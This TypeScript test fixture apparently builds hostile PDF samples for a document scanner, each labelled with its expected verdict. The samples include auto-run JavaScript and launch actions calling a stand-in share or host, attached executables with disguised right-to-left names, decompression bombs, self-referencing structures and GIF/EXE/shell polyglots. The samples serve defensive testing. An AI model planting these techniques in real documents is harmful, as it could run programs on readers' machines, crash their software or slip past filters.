import { deflateSync } from "node:zlib";
import { objectStream, pdf, pdfFile, stream } from "../pdf-file.ts";
import { compoundFile, wordStreams } from "../compound-file-writer.ts";
import { archive, docx } from "../resumes.ts";
import { type HostileDocument, windowsProgram } from "./hostile-document.ts";

const mebibyte = 1024 * 1024;
const script = "<< /S /JavaScript /JS (app.alert\\(1\\)) >>";
const web = "<< /S /URI /URI (http://host/) >>";
const opening = (action: string, ...objects: string[]) => pdfFile({ catalog: `/OpenAction ${action}`, objects });
const onPage = (trigger: string, action: string) => pdfFile({ page: `/AA << /${trigger} ${action} >>` });
const annotated = (entries: string, ...objects: (string | Buffer)[]) =>
  pdfFile({ page: "/Annots [4 0 R]", objects: [`<< /Type /Annot /Rect [0 0 9 9] ${entries} >>`, ...objects] });
const attached = (name: string, data: Uint8Array | string = "x", filter = "") =>
  pdfFile({
    catalog: `/Names << /EmbeddedFiles << /Names [(a) 4 0 R] >> >>`,
    objects: [`<< /Type /Filespec /F ${name} /EF << /F 5 0 R >> >>`, stream(`/Type /EmbeddedFile ${filter}`, data)],
  });

/** What acts without a click (ISO 32000-2, 12.6.3): when the document or a page opens, closes, prints, or is passed by. */
const automatic: readonly HostileDocument[] = [
  ["a web address when it opens", opening(web), "runsOnOpen"],
  ["a web address when its page opens", onPage("O", web), "runsOnOpen"],
  ["a web address when its page closes", onPage("C", web), "runsOnOpen"],
  ["a script when it closes", pdfFile({ catalog: `/AA << /WC ${script} >>` }), "runsOnOpen"],
  ["a script when it is printed", pdfFile({ catalog: `/AA << /WP ${script} >>` }), "runsOnOpen"],
  ["a script when an annotation's page opens", annotated(`/Subtype /Text /AA << /PO ${script} >>`), "runsOnOpen"],
  ["a script when an annotation comes into sight", annotated(`/Subtype /Text /AA << /PV ${script} >>`), "runsOnOpen"],
  ["a script when the pointer passes", annotated(`/Subtype /Text /AA << /E ${script} >>`), "runsOnOpen"],
  ["a script that follows a place", opening(`<< /S /GoTo /D [3 0 R /Fit] /Next ${script} >>`), "runsOnOpen"],
  ["a script among those that follow", opening(`<< /S /Named /N /NextPage /Next [null ${script}] >>`), "runsOnOpen"],
  ["an action that follows itself", opening("4 0 R", "<< /S /GoTo /D [3 0 R /Fit] /Next 4 0 R >>"), []],
  ["a script as a reference to a reference", opening("4 0 R", script), "runsOnOpen"],
  [
    "a script below its tree of names",
    pdfFile({ catalog: "/Names << /JavaScript << /Kids [4 0 R] >> >>", objects: [`<< /Names [(a) ${script}] >>`] }),
    "runsOnOpen",
  ],
  ["rich media that starts by itself", opening("<< /S /RichMediaExecute /TA 4 0 R >>", "null"), "runsOnOpen"],
  ["a sound when its page opens", onPage("O", "<< /S /Sound /Sound 4 0 R >>"), "runsOnOpen"],
  ["a program of a share when it opens", opening("<< /S /Launch /F (\\\\\\\\host\\\\a.exe) >>"), "runsOnOpen"],
  ["a form that is sent when its page opens", onPage("O", "<< /S /SubmitForm /F (http://host/) >>"), "runsOnOpen"],
  ["another document when its page opens", onPage("O", "<< /S /GoToR /F (http://host/a.pdf) >>"), "runsOnOpen"],
];

/** What needs a click, and is contained; programs are not. */
const asked: readonly HostileDocument[] = [
  ["a link to a program", annotated("/Subtype /Link /A << /S /Launch /F (calc.exe) >>"), "program"],
  [
    "a link to a document of the web",
    annotated("/Subtype /Link /A << /S /GoToR /F (http://host/a.pdf) >>"),
    ["externalLink"],
  ],
  [
    "a link to an attached document",
    annotated("/Subtype /Link /A << /S /GoToE /T << /R /C /N (a) >> >>"),
    ["externalLink"],
  ],
  ["a link whose action is a script", annotated(`/Subtype /Link /A ${script}`), ["script"]],
  ["an attached program", attached("(a.pdf)", windowsProgram), "program"],
  ["an attached program by its name", attached("(cv.pdf.exe)"), "program"],
  [
    "an attached program whose name runs from right to left",
    attached("<FEFF00630076002E202E006600640070002E006500780065>"),
    "program",
  ],
  ["an attached script by its name", attached("(a.js)"), "program"],
  [
    "an attached document that runs a script",
    attached("(a.pdf)", deflateSync(opening(script)), "/Filter /FlateDecode"),
    ["attachment"],
  ],
  ["an attached archive", attached("(a.zip)", archive([{ name: "a.exe", data: "x" }])), ["attachment"]],
];

/** An object that readers find by the table of cross-references, within the data of a stream that a scan passes over. */
function behindTheTable(): Buffer {
  const hidden = `9 0 obj\n${script}\nendobj\n`;
  const file = pdfFile({
    catalog: "/OpenAction 9 0 R",
    objects: [stream("", hidden), ...Array<string>(4).fill("null"), "null"],
  }).toString("latin1");
  const row = file.indexOf("xref\n") + "xref\n0 10\n".length + 9 * 20;
  const place = String(file.indexOf(hidden)).padStart(10, "0");
  return Buffer.from(file.slice(0, row) + place + file.slice(row + 10), "latin1");
}

const changed = (from: string | RegExp, to: string, file = pdf()) =>
  Buffer.from(file.toString("latin1").replace(from, to), "latin1");

/** Documents that never end, or that expand beyond available memory (Endignoux, "Caradoc"; "PDF bombs" of qpdf's and poppler's reports). */
const endless: readonly HostileDocument[] = [
  ["an opening action that only the table of cross-references finds", behindTheTable(), "runsOnOpen"],
  ["a page tree that holds itself", changed("/Kids [3 0 R]", "/Kids [2 0 R 3 0 R]"), []],
  [
    "a tree of names that holds itself ten times",
    pdfFile({
      catalog: "/Names << /JavaScript 4 0 R >>",
      objects: [`<< /Kids [${"4 0 R ".repeat(10)}] >>`],
    }),
    [],
  ],
  ["a table of cross-references before itself", changed("/Root 1 0 R", "/Root 1 0 R /Prev 9"), []],
  ["a stream as long as itself", pdfFile({ objects: [Buffer.from("<< /Length 4 0 R >>\nstream\nx\nendstream")] }), []],
  ["an object that is itself", pdfFile({ catalog: "/OpenAction 4 0 R", objects: ["4 0 R"] }), []],
  ["a table of two thousand million objects", changed(/xref\n0 \d+/, "xref\n0 2147483647"), []],
  [
    "a page whose content bursts",
    pdfFile({ objects: [stream("/Filter /FlateDecode", deflateSync(Buffer.alloc(100 * mebibyte)))] }),
    [],
  ],
  [
    "packed objects that burst twice",
    pdfFile({
      packed: ["null"],
      repack: ({ count }) =>
        stream(
          `/Type /ObjStm /N ${count} /First 9 /Filter [/FlateDecode /FlateDecode]`,
          deflateSync(deflateSync(Buffer.alloc(300 * mebibyte, " "))),
        ),
    }),
    "damaged",
  ],
  [
    "packed objects that say they are a thousand million",
    pdfFile({ packed: ["null"], repack: (packed) => objectStream({ ...packed, count: 1_000_000_000 }) }),
    [],
  ],
  [
    "dictionaries in dictionaries, a hundred thousand deep",
    pdfFile({ objects: ["<< /A ".repeat(100_000) + ">>".repeat(100_000)] }),
    [],
  ],
];

/** Two kinds of file at once (Albertini, "Corkami"; PoC||GTFO): which one it is depends on who opens it. */
const twoKinds: readonly HostileDocument[] = [
  ["a GIF and a PDF", Buffer.concat([Buffer.from("GIF89a\x01\0\x01\0\0\0\0"), pdf()]), "image"],
  ["a JPEG and a PDF", Buffer.concat([Buffer.from("ffd8ffe000104a464946000101", "hex"), pdf()]), "image"],
  ["a Windows program and a PDF", Buffer.concat([windowsProgram, pdf()]), "program"],
  ["a shell script and a PDF", Buffer.concat([Buffer.from("#!/bin/sh\nexit\n"), pdf()]), "program"],
  ["rich text and a PDF", Buffer.concat([Buffer.from("{\\rtf1 {\\*\\x "), pdf()]), "rtf"],
  ["an archive and a PDF", Buffer.concat([archive([{ name: "a", data: "x" }]), pdf()]), "combined"],
  ["a PDF and a Word package", Buffer.concat([pdf(), docx()]), "combined"],
  ["a Word package and a PDF", Buffer.concat([docx(), pdf()]), "combined"],
  [
    "a Word document within whose first sectors a PDF begins",
    (() => {
      const file = compoundFile(wordStreams());
      file.write("%PDF-1.7\n", 520, "latin1");
      return file;
    })(),
    "combined",
  ],
];

export const hostileActions: readonly HostileDocument[] = [...automatic, ...asked, ...endless, ...twoKinds];
